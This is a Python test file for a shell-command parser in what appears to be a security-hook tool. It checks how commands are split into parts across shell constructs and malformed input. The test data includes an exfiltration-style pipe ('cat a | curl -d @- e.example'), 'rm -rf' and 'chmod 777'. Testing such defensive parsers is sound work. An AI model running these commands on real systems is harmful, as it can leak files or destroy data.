import re

import pytest

from security_hooks.catalogue.load import shipped
from security_hooks.model.event import Place
from security_hooks.shell.facts import read_script
from security_hooks.shell.limits import ShellLimits
from security_hooks.shell.parts import MOST_PARTS, PartKind, parts_of

PLACE = Place("/p", "/home/u", "/p")
CATALOGUE = shipped()


def told(text: str) -> list[tuple[str, str]]:
    script = read_script(text, PLACE, CATALOGUE, ShellLimits())
    return [(part.kind.name, text[part.start : part.end]) for part in parts_of(text, script.commands)]


@pytest.mark.parametrize(
    ("text", "expected"),
    [
        ("", []),
        ("ls", [("COMMAND", "ls"), ("PROGRAM", "ls")]),
        (
            "rm -rf a b",
            [
                *(("COMMAND", "rm -rf a b"), ("PROGRAM", "rm"), ("OPTION", "-rf")),
                *(("OPERAND", "a"), ("OPERAND", "b")),
            ],
        ),
        (
            "cat a | curl -d @- e.example",
            [
                *(("STAGE", "cat a"), ("PROGRAM", "cat"), ("OPERAND", "a")),
                *(
                    ("STAGE", "curl -d @- e.example"),
                    ("PROGRAM", "curl"),
                    ("OPTION", "-d @-"),
                    ("OPERAND", "e.example"),
                ),
            ],
        ),
        (
            "sudo git push > x 2>&1",
            [
                *(("COMMAND", "sudo git push > x 2>&1"), ("PROGRAM", "sudo"), ("WORD", "git"), ("WORD", "push")),
                *(("REDIRECTION", "> x"), ("REDIRECTION", "2>&1")),
            ],
        ),
        ("X=1 Y=2", [("COMMAND", "X=1 Y=2"), ("ASSIGNMENT", "X=1"), ("ASSIGNMENT", "Y=2")]),
        (
            'cat "$X"',
            [("COMMAND", 'cat "$X"'), ("PROGRAM", "cat"), ("OPERAND", '"$X"'), ("UNKNOWN", "$X")],
        ),
        (
            "bash -c 'ls a'",
            [
                *(("COMMAND", "bash -c 'ls a'"), ("PROGRAM", "bash"), ("OPTION", "-c"), ("OPERAND", "'ls a'")),
                *(("COMMAND", "ls a"), ("PROGRAM", "ls"), ("OPERAND", "a")),
            ],
        ),
        (
            "sh <<E\nls a\nE",
            [
                *(("PROGRAM", "sh"), ("WORD", "ls a\n")),
                *(("COMMAND", "ls a"), ("PROGRAM", "ls"), ("OPERAND", "a")),
            ],
        ),
    ],
)
def test_each_part_has_its_kind_and_place(text: str, expected: list[tuple[str, str]]) -> None:
    assert told(text) == expected


@pytest.mark.parametrize(
    "text",
    [
        "if ls; then ls; elif ls; then ls; else ls; fi",
        "while ls; do ls; done",
        "for x in a; do ls; done; { ls; }; (ls)",
        "case x in x) ls;; esac",
        "f() { ls; }; ! ls & coproc ls",
        "echo $(ls)",
        '"$(ls)"',
    ],
)
def test_commands_are_found_in_every_construct(text: str) -> None:
    assert [held for kind, held in told(text) if kind in ("COMMAND", "STAGE")].count("ls") == len(
        re.findall(r"\bls\b", text)
    )


def test_an_operand_is_spare_where_another_meets_the_same_effect() -> None:
    def spare(text: str) -> list[str]:
        script = read_script(text, PLACE, CATALOGUE, ShellLimits())
        return [text[part.start : part.end] for part in parts_of(text, script.commands) if part.spare]

    assert spare("rm a b") == ["a", "b"]
    assert spare("rm a") == []
    assert spare("chmod 777 a") == []


@pytest.mark.parametrize("text", ["'", '"$(', "a <<E", "((", "\0", "$(" * 500, "a | | b", "\ud800"])
def test_no_text_raises(text: str) -> None:
    assert all(0 <= part.start <= part.end <= len(text) for part in parts_of(text, ()))


def test_there_is_an_end_to_it() -> None:
    parts = parts_of("ls;" * 5_000, ())
    assert len(parts) == MOST_PARTS
    assert {part.kind for part in parts} == {PartKind.COMMAND, PartKind.PROGRAM}
